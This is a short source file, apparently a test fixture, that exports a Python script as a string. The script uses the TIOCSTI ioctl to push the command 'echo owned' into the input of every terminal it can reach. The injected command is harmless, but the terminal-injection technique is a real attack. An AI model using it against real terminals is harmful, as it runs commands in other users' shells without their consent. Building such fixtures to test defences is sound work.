/** A text for Python that pushes a command into the input of each terminal that it can reach, by TIOCSTI. */
export const pushIntoTerminal = `
import fcntl, os, termios
files = [0, 1, 2]
try:
    files.append(os.open("/dev/tty", os.O_RDWR))
except OSError:
    pass
for file in files:
    for byte in b"echo owned\\n":
        try:
            fcntl.ioctl(file, termios.TIOCSTI, bytes([byte]))
        except OSError:
            break
`;
